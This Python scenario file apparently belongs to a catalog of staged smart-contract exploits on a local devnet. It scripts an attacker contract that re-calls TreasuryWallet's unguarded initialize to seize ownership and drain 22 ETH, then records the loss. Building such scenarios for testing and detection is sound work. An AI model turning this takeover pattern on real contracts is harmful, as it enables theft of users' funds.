"""Scenario `unprotected-initializer`: WalletHijacker re-initializes TreasuryWallet and empties it.

The deployer sets TreasuryWallet up with `initialize(deployer)`, five members contribute 25 ETH and
the owner pays a 3 ETH invoice. The attacker EOA (mallory) deploys WalletHijacker, which in one
transaction calls `initialize(itself)` (the flag is never checked), becomes the owner and `pay`s
the whole treasury (22 ETH) to mallory.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import Scenario
from timemachine.catalog.scenarios.contract import deploy
from timemachine.catalog.scenarios.world import World
from timemachine.errors import DevnetBuildError

ATTACKER = "mallory"
EXPLOIT_GAS = 500_000


async def stage(world: World) -> ScenarioRecord:
    """Set up and use the treasury, deploy the hijacker, hijack; verify the loss and payout."""
    chain, a = world.chain, actor_address
    wallet = await deploy(chain, "deployer", "TreasuryWallet")
    await wallet.send("deployer", "initialize", a("deployer"))
    await chain.mine()
    for member, amount in {"bob": 7, "carol": 3, "dave": 4, "erin": 6, "heidi": 5}.items():
        await wallet.send(member, "contribute", value=amount * ETHER)
    await chain.mine()
    await wallet.send("deployer", "pay", a("grace"), 3 * ETHER)
    hijacker = await deploy(chain, ATTACKER, "WalletHijacker")
    await chain.mine()

    treasury = await chain.balance(wallet.address)
    before = await chain.balance(a(ATTACKER))
    exploit_tx = await hijacker.send(ATTACKER, "hijack", wallet.address, gas=EXPLOIT_GAS)
    block = await chain.mine()
    fee = block.fee(exploit_tx)
    profit = await chain.balance(a(ATTACKER)) - before
    left = await chain.balance(wallet.address)
    if treasury != 22 * ETHER or left != 0 or profit != treasury - fee:
        raise DevnetBuildError(
            f"initializer takeover {exploit_tx} misbehaved: wallet held {treasury} wei, kept "
            f"{left}, attacker profit {profit} wei (fee {fee})"
        )
    return SCENARIO.record(
        exploit_tx=exploit_tx,
        block_number=block.number,
        attacker=a(ATTACKER),
        attacker_contracts=[hijacker.address],
        victims=[wallet.address],
        expected_loss_wei=treasury,
    )


SCENARIO = Scenario(
    id="unprotected-initializer",
    title="TreasuryWallet taken over through its unprotected initializer",
    description=(
        "TreasuryWallet.initialize sets the owner and never checks that it already ran. "
        "WalletHijacker calls it again to make itself the owner, then pays the whole treasury "
        "(22 ETH of members' contributions) to the attacker EOA, in one transaction."
    ),
    vulnerability_class="access_control",
    stage=stage,
)
